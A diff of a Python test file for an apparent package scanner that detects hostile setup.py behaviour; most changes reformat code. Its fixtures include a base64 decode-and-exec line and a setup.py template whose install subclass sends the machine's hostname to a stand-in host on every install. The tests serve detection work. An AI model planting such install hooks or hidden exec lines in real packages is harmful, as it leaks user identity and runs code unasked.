@@ -14,8 +14,10 @@ def diff_of(files: dict[str, str]) -> bytes:
     for path, text in files.items():
         lines = text.strip("\n").split("\n")
         body = "".join(f"+{line}\n" for line in lines)
-        out.append(f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
-                   f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}")
+        out.append(
+            f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
+            f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}"
+        )
     return "".join(out).encode()
 
 
@@ -24,7 +26,9 @@ def run(files: dict[str, str]):
 
 
 def rules(files: dict[str, str], min_severity: Severity = Severity.MEDIUM) -> set[tuple[str, str]]:
-    return {(f.rule_id, f.severity.label) for f in run(files).findings if f.severity >= min_severity}
+    return {
+        (f.rule_id, f.severity.label) for f in run(files).findings if f.severity >= min_severity
+    }
 
 
 def only(files: dict[str, str], rule: str) -> Finding:
@@ -117,13 +121,18 @@ def broken(:
 exec(base64.b64decode("aW1wb3J0IG9z"))
 """
     result = run({"setup.py": code})
-    assert ("py-behaviour-decoded-exec", "critical") in {(f.rule_id, f.severity.label) for f in result.findings}
-    assert [(s.path, s.reason) for s in result.skipped] == [("setup.py", SkipReason.PARTLY_PARSED)]
+    assert ("py-behaviour-decoded-exec", "critical") in {
+        (f.rule_id, f.severity.label) for f in result.findings
+    }
+    # a whole file with lines no parser read is not fully analysed: the check cannot be green
+    assert [(s.path, s.reason) for s in result.skipped] == [("setup.py", SkipReason.UNPARSABLE)]
 
 
 def test_a_file_no_python_parses_is_listed_as_skipped() -> None:
     result = run({"pkg/broken.py": "def (:\n  pass\n"})
-    assert [(s.path, s.reason) for s in result.skipped] == [("pkg/broken.py", SkipReason.UNPARSABLE)]
+    assert [(s.path, s.reason) for s in result.skipped] == [
+        ("pkg/broken.py", SkipReason.UNPARSABLE)
+    ]
     assert "pkg/broken.py" in result.skipped[0].path
 
 
@@ -146,3 +155,23 @@ exec(open(os.path.join(here, "pkg", "about.py")).read())
 setup(name="pkg", version=version, packages=find_packages())
 """
     assert rules({"setup.py": code}, Severity.LOW) == set()
+
+
+def test_a_setup_command_run_only_on_request_is_not_an_install_hook() -> None:
+    """A `python setup.py fetch_css` command downloads when asked; an install subclass runs on
+    every install."""
+    template = """
+import os, socket
+from urllib.request import urlopen
+from setuptools import setup, Command
+from setuptools.command.install import install
+class Step({base}):
+    def run(self):
+        urlopen("https://cdn.example/x?h=" + socket.gethostname()).read()
+setup(name="p", cmdclass={{"step": Step}})
+"""
+    on_request = rules({"setup.py": template.format(base="Command")}, Severity.LOW)
+    on_install = rules({"setup.py": template.format(base="install")}, Severity.LOW)
+    assert ("py-behaviour-identity-sent", "medium") in on_request
+    assert ("py-behaviour-identity-sent", "high") in on_install
+    assert not any(r == "py-behaviour-unasked-request" for r, _ in on_request)
